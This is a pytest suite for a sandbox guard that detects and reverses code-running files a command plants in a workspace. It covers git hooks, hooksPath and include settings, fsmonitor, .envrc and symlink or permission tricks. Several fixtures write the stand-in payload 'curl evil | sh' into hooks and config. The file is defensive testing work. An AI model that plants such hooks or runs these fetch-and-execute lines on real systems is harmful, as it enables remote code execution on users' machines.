"""The guard on its own (no bwrap): a snapshot, then what a command might leave, then the check.

Each case changes the workspace directly between ``Guard.before`` and ``after`` (as a command
would) and checks what is put aside, what is put back, and what is left alone.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from echo_desk.sandbox import gitconfig, inventory, repositories
from echo_desk.sandbox import guard as guard_module
from echo_desk.sandbox.guard import Change, Guard, Planted


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    repositories.forget()
    ws = tmp_path / "ws"
    nested = ws / "vendor" / "lib"
    nested.mkdir(parents=True)
    for repo in (ws, nested):
        subprocess.run(["git", "init", "-q", str(repo)], check=True)
    (nested / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\necho mine\n")
    (nested / ".git" / "hooks" / "pre-commit").chmod(0o755)
    return ws


def _check(ws: Path, tmp_path: Path, change: Callable[[], None]) -> tuple[Planted, ...]:
    home = tmp_path / "home"
    guard = Guard.before(inventory.take(ws, home=home), home=home, put_aside=tmp_path / "aside")
    change()
    return guard.after()


def test_a_changed_hook_in_a_nested_repository_is_put_back_and_the_new_one_kept(workspace: Path,
                                                                                tmp_path: Path) -> None:
    hook = workspace / "vendor" / "lib" / ".git" / "hooks" / "pre-commit"
    found = _check(workspace, tmp_path, lambda: hook.write_text("#!/bin/sh\ncurl evil | sh\n"))
    assert [(p.path, p.change, p.put_back) for p in found] == [
        ("vendor/lib/.git/hooks/pre-commit", Change.CHANGED, True)]
    assert hook.read_text() == "#!/bin/sh\necho mine\n" and hook.stat().st_mode & 0o777 == 0o755
    assert Path(found[0].kept).read_text() == "#!/bin/sh\ncurl evil | sh\n"
    assert Path(found[0].kept).stat().st_mode & 0o777 == 0o600


def test_a_removed_hook_is_put_back_but_a_repository_removed_whole_is_not_rebuilt(workspace: Path,
                                                                                   tmp_path: Path) -> None:
    hook = workspace / "vendor" / "lib" / ".git" / "hooks" / "pre-commit"
    found = _check(workspace, tmp_path, hook.unlink)
    assert [(p.path, p.change, p.put_back) for p in found] == [
        ("vendor/lib/.git/hooks/pre-commit", Change.REMOVED, True)]
    assert hook.read_text() == "#!/bin/sh\necho mine\n"
    assert _check(workspace, tmp_path, lambda: shutil.rmtree(workspace / "vendor")) == ()
    assert not (workspace / "vendor").exists()


def test_a_rewritten_git_file_is_put_back(workspace: Path, tmp_path: Path) -> None:
    sub = workspace / "sub"
    sub.mkdir()
    (sub / ".git").write_text("gitdir: ../.git/modules/sub\n")
    found = _check(workspace, tmp_path, lambda: (sub / ".git").write_text("gitdir: .g\n"))
    assert [(p.path, p.change, p.put_back) for p in found] == [("sub/.git", Change.CHANGED, True)]
    assert (sub / ".git").read_text() == "gitdir: ../.git/modules/sub\n"


def test_a_hooks_folder_swapped_for_a_link_is_put_back(workspace: Path, tmp_path: Path) -> None:
    hooks = workspace / "vendor" / "lib" / ".git" / "hooks"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "pre-commit").write_text("evil")

    def swap() -> None:
        shutil.rmtree(hooks)
        hooks.symlink_to(elsewhere)

    found = _check(workspace, tmp_path, swap)
    assert [(p.path, p.change, p.put_back) for p in found] == [("vendor/lib/.git/hooks", Change.CHANGED, True)]
    assert hooks.is_dir() and not hooks.is_symlink()
    assert (hooks / "pre-commit").read_text() == "#!/bin/sh\necho mine\n"
    assert (elsewhere / "pre-commit").read_text() == "evil"  # what the link pointed to is not touched
    assert os.readlink(found[0].kept) == str(elsewhere)


def test_what_runs_nothing_is_left_alone(workspace: Path, tmp_path: Path) -> None:
    hook = workspace / "vendor" / "lib" / ".git" / "hooks" / "pre-commit"

    def harmless() -> None:
        (workspace / ".vscode").mkdir()  # an empty folder
        (workspace / "vendor" / "lib" / ".git" / "hooks" / "update.sample").write_text("changed sample")
        os.utime(hook)  # touched, same bytes
        (workspace / "src").mkdir()
        (workspace / "src" / "main.py").write_text("print()\n")

    assert _check(workspace, tmp_path, harmless) == ()


def test_a_new_repository_loses_what_runs_code_and_keeps_the_rest(workspace: Path, tmp_path: Path) -> None:
    made = workspace / "made"
    found = _check(workspace, tmp_path, lambda: subprocess.run(["git", "init", "-q", str(made)], check=True))
    assert {(p.path, p.change) for p in found} == {("made/.git/config", Change.CREATED),
                                                    ("made/.git/info", Change.CREATED)}
    assert (made / ".git" / "HEAD").exists() and (made / ".git" / "objects").is_dir()
    assert not (made / ".git" / "config").exists()
    # Its hooks folder holds only git's samples, which never run: left as it is.
    assert all(p.name.endswith(".sample") for p in (made / ".git" / "hooks").iterdir())


def test_without_a_put_aside_folder_what_was_planted_is_deleted(workspace: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    guard = Guard.before(inventory.take(workspace, home=home), home=home)
    (workspace / ".envrc").write_text("curl evil | sh\n")
    found = guard.after()
    assert [(p.path, p.change, p.kept) for p in found] == [(".envrc", Change.CREATED, "")]
    assert not (workspace / ".envrc").exists()


def test_a_search_cut_at_its_bound_says_so(tmp_path: Path) -> None:
    repositories.forget()
    for i in range(30):
        (tmp_path / f"d{i}" / "x").mkdir(parents=True)
    (tmp_path / "node_modules" / "pkg" / ".git").mkdir(parents=True)  # never entered
    (tmp_path / "target" / "repo" / ".git").mkdir(parents=True)
    (tmp_path / "target" / "CACHEDIR.TAG").write_text("Signature: 8a477f597d28d172789f06886806bc55\n")
    (tmp_path / ".venv" / "src" / "pkg" / ".git").mkdir(parents=True)
    (tmp_path / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    found = repositories.find(tmp_path)
    assert found.entries == () and not found.cut
    cut = repositories.find(tmp_path, max_folders=10)
    assert cut.cut and cut.folders_read == 10
    (tmp_path / "d3" / "x" / ".git").mkdir()
    assert [e.path for e in repositories.find(tmp_path).entries] == [str(tmp_path / "d3" / "x" / ".git")]


def test_a_listing_kept_from_before_is_read_again_when_the_folder_changes(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A command cannot hide a new ``.git`` by setting its folder's mtime back: the walk keys its
    kept listings on the change time, which no program can set."""
    repositories.forget()
    folder = tmp_path / "a"
    folder.mkdir()
    real_now = time.time_ns
    monkeypatch.setattr(repositories.time, "time_ns", lambda: real_now() + 10**10)  # read long after: trusted
    assert repositories.find(tmp_path).entries == ()
    kept_ctime = folder.stat().st_ctime_ns
    old = folder.stat()
    (folder / ".git").mkdir()
    _next_clock_tick(tmp_path, kept_ctime)
    os.utime(folder, ns=(old.st_atime_ns, old.st_mtime_ns))  # mtime set back as it was
    assert folder.stat().st_mtime_ns == old.st_mtime_ns and folder.stat().st_ctime_ns != kept_ctime
    assert [e.path for e in repositories.find(tmp_path).entries] == [str(folder / ".git")]


def _next_clock_tick(scratch: Path, after_ns: int) -> None:
    """Wait (with a deadline) until the file system's clock is past ``after_ns``."""
    probe = scratch / "probe"
    deadline = time.monotonic() + 5
    while True:
        probe.write_text("")
        if probe.stat().st_ctime_ns > after_ns:
            return
        assert time.monotonic() < deadline


def test_core_hooks_path_is_read_as_git_reads_it(tmp_path: Path) -> None:
    config = tmp_path / "config"
    config.write_text('[core]\n\tbare = false\n[Core "x"]\n[CORE]\n  HooksPath = "my hooks" ; note\n')
    assert gitconfig.read([str(tmp_path / "missing"), str(config)], str(tmp_path)).hooks_paths == ("my hooks",)
    result = subprocess.run(["git", "config", "--file", str(config), "core.hooksPath"], capture_output=True,
                            text=True, check=True)
    assert result.stdout.strip() == "my hooks"


def test_what_a_command_does_cannot_hide_a_repository_from_the_check_after_it(workspace: Path,
                                                                              tmp_path: Path) -> None:
    """Folders read before are read again after, outside the bound, and a cache tag, a
    ``pyvenv.cfg`` or a git folder's look the command made does not stop the walk."""
    home = tmp_path / "home"
    hook = workspace / "vendor" / "lib" / ".git" / "hooks" / "pre-commit"
    guard = Guard.before(inventory.take(workspace, home=home, max_folders=8), home=home,
                         put_aside=tmp_path / "aside", max_folders=8)
    hook.write_text("#!/bin/sh\ncurl evil | sh\n")
    for i in range(40):  # more new folders than the bound, nearer than the repository
        (workspace / f"a{i:02}").mkdir()
    (workspace / "vendor" / "CACHEDIR.TAG").write_text("Signature: 8a477f597d28d172789f06886806bc55\n")
    (workspace / "vendor" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    for name in ("objects", "refs"):
        (workspace / "vendor" / name).mkdir()
    (workspace / "vendor" / "HEAD").write_text("ref: refs/heads/main\n")
    found = guard.after()
    assert ("vendor/lib/.git/hooks/pre-commit", Change.CHANGED, True) in [(p.path, p.change, p.put_back)
                                                                         for p in found]
    assert guard.cut_after  # said in the result (``search_cut``)
    assert hook.read_text() == "#!/bin/sh\necho mine\n"


def test_a_folder_that_is_a_git_folder_itself_is_a_repository(tmp_path: Path) -> None:
    repositories.forget()
    subprocess.run(["git", "init", "-q", "--bare", str(tmp_path / "src")], check=True)
    (tmp_path / "src" / "objects" / "deep" / ".git").mkdir(parents=True)  # its contents are not walked
    found = repositories.find(tmp_path)
    assert [(e.path, e.folder, e.bare) for e in found.entries] == [(str(tmp_path / "src"), True, True)]
    watched = {w.path for w in inventory.take(tmp_path, home=tmp_path / "home").watched}
    assert {str(tmp_path / "src" / part) for part in ("config", "hooks", "info")} <= watched


def test_a_hooks_folder_filled_past_what_is_looked_at_is_put_back_whole(workspace: Path, tmp_path: Path) -> None:
    """More entries than the guard looks at in one folder must not hide a hook among them."""
    hooks = workspace / "vendor" / "lib" / ".git" / "hooks"

    def fill() -> None:
        for i in range(guard_module.MAX_TREE_ENTRIES + 10):
            (hooks / f"f{i:05}").write_text("")
        (hooks / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")

    found = _check(workspace, tmp_path, fill)
    assert [(p.path, p.change, p.put_back) for p in found] == [("vendor/lib/.git/hooks", Change.CHANGED, True)]
    assert sorted(p.name for p in hooks.iterdir() if not p.name.endswith(".sample")) == ["pre-commit"]
    assert (Path(found[0].kept) / "post-checkout").exists()


def test_included_configuration_is_followed_as_git_follows_it(tmp_path: Path) -> None:
    """Relative to the including file, ``~/`` in the home folder, conditions not evaluated, at
    most ten deep; every hooks path on the way is reported."""
    gitconfig.forget()
    home = tmp_path / "home"
    (home / "deep").mkdir(parents=True)
    (tmp_path / "config").write_text('[include]\n\tpath = one.conf\n[includeIf "onbranch:x"]\n\tpath = ~/deep/two\n')
    (tmp_path / "one.conf").write_text("[core]\n\thooksPath = .one-hooks\n")
    (home / "deep" / "two").write_text("[include]\n\tpath = ../three\n[core]\n\thooksPath = ~/hooks\n")
    (home / "three").write_text("[include]\n\tpath = three\n")  # includes itself: read once
    found = gitconfig.read([str(tmp_path / "config")], str(home))
    assert found.hooks_paths == (".one-hooks", "~/hooks")
    assert found.included == (str(tmp_path / "one.conf"), str(home / "deep" / "two"), str(home / "three"))
    for i in range(15):
        (tmp_path / f"c{i}").write_text(f"[include]\n\tpath = c{i + 1}\n")
    chain = gitconfig.read([str(tmp_path / "c0")], str(home)).included
    assert len(chain) == gitconfig.MAX_INCLUDE_DEPTH + 1


def test_a_file_the_repositorys_configuration_includes_is_watched(workspace: Path, tmp_path: Path) -> None:
    nested = workspace / "vendor" / "lib"
    subprocess.run(["git", "config", "include.path", "../shared.gitconfig"], cwd=nested, check=True)
    (nested / "shared.gitconfig").write_text("[user]\n\tname = me\n")
    found = _check(workspace, tmp_path, lambda: (nested / "shared.gitconfig").write_text(
        "[core]\n\tfsmonitor = curl evil | sh\n"))
    assert [(p.path, p.change, p.put_back) for p in found] == [("vendor/lib/shared.gitconfig", Change.CHANGED, True)]
    assert (nested / "shared.gitconfig").read_text() == "[user]\n\tname = me\n"


def test_the_walk_after_reads_what_the_walk_before_read_and_what_is_new(tmp_path: Path) -> None:
    """Unchanged, a tree beyond the bound costs the same after the command as before it; a new
    folder in a folder read before is read however many there are."""
    repositories.forget()
    for i in range(30):
        (tmp_path / f"d{i:02}" / "x").mkdir(parents=True)
    before = repositories.find(tmp_path, max_folders=10)
    after = repositories.find(tmp_path, max_folders=10, before=before)
    assert after.read.keys() == before.read.keys() and after.cut
    some = next(f for f in before.read if f != str(tmp_path))
    (Path(some) / "new" / ".git").mkdir(parents=True)
    again = repositories.find(tmp_path, max_folders=10, before=before)
    assert f"{some}/new/.git" in [e.path for e in again.entries]
    for i in range(30):  # many new folders: at most the bound of them is read
        (tmp_path / f"e{i:02}").mkdir()
    assert len(repositories.find(tmp_path, max_folders=10, before=before).read) <= len(before.read) + 10


def test_a_hooks_folder_made_unreadable_is_put_back_whole(workspace: Path, tmp_path: Path) -> None:
    """``chmod 100 hooks``: git can still run a hook in it by name, but a listing cannot see one."""
    hooks = workspace / "vendor" / "lib" / ".git" / "hooks"
    mode = hooks.stat().st_mode & 0o777

    def hide() -> None:
        (hooks / "post-merge").write_text("#!/bin/sh\ncurl evil | sh\n")
        hooks.chmod(0o100)

    found = _check(workspace, tmp_path, hide)
    assert [(p.path, p.change, p.put_back) for p in found] == [("vendor/lib/.git/hooks", Change.CHANGED, True)]
    assert hooks.stat().st_mode & 0o777 == mode and not (hooks / "post-merge").exists()
    assert (hooks / "pre-commit").read_text() == "#!/bin/sh\necho mine\n"


@pytest.mark.parametrize("refused", ["the move says it moved", "the move and the removal fail"])
def test_what_could_not_be_taken_out_is_reported_as_still_there(workspace: Path, tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch, refused: str) -> None:
    """A move aside that did not happen (for a reason nobody foresaw) is never reported as done:
    the check looks, and says the planted hook is still in the workspace, to the model and on
    the card. The person's own version is not written over it either."""
    from echo_desk.sandbox import aside
    from echo_desk.ui.chat.card_parse import planted_of
    from echo_desk.ui.chat.sandbox_card import planted_lines

    if refused == "the move says it moved":
        monkeypatch.setattr(aside, "move_out", lambda *_args: True)
    else:
        def refuse(*_args: object, **_kwargs: object) -> None:
            raise PermissionError(1, "Operation not permitted")

        monkeypatch.setattr(aside.os, "rename", refuse)
        monkeypatch.setattr(aside.os, "unlink", refuse)
    hook = workspace / "vendor" / "lib" / ".git" / "hooks" / "pre-commit"
    found = _check(workspace, tmp_path, lambda: hook.write_text("#!/bin/sh\ncurl evil | sh\n"))
    assert [(p.path, p.still_there, p.put_back) for p in found] == [("vendor/lib/.git/hooks/pre-commit", True, False)]
    assert "still in the workspace" in found[0].english
    assert hook.read_text() == "#!/bin/sh\ncurl evil | sh\n"  # as it is: said, not hidden
    shown = planted_lines(planted_of([p.to_json() for p in found]))
    assert "vendor/lib/.git/hooks/pre-commit (could not be removed: it is still in the workspace, do not use it)" \
        in shown[0][0]


@pytest.mark.parametrize("kept", [True, False], ids=["put aside", "deleted"])
def test_a_tree_deeper_than_the_recursion_limit_is_taken_out_whole(workspace: Path, tmp_path: Path,
                                                                   kept: bool) -> None:
    home = tmp_path / "home"
    guard = Guard.before(inventory.take(workspace, home=home), home=home,
                         put_aside=tmp_path / "aside" if kept else None)
    deep = workspace / ".vscode" / Path(*["a"] * 1100)
    subprocess.run(["mkdir", "-p", str(deep)], check=True)  # (Path.mkdir recurses)
    (deep / "tasks.json").write_text("{}\n")
    found = guard.after()
    assert [(p.path, p.still_there) for p in found] == [(".vscode", False)]
    assert not (workspace / ".vscode").exists()
    assert bool(found[0].kept) is kept
    subprocess.run(["rm", "-rf", str(tmp_path / "aside")], check=True)  # (rmtree recurses)


def test_a_planted_hard_link_to_the_persons_file_is_put_aside_without_changing_that_files_mode(
        workspace: Path, tmp_path: Path) -> None:
    script = workspace / "build.sh"
    script.write_text("#!/bin/sh\nmake\n")
    script.chmod(0o755)
    hook = workspace / ".git" / "hooks" / "pre-push"
    found = _check(workspace, tmp_path, lambda: os.link(script, hook))
    assert [(p.path, p.change) for p in found] == [(".git/hooks/pre-push", Change.CREATED)]
    assert not hook.exists()
    # The planted name is another name of the person's script: its mode is the script's mode.
    assert script.stat().st_mode & 0o777 == 0o755
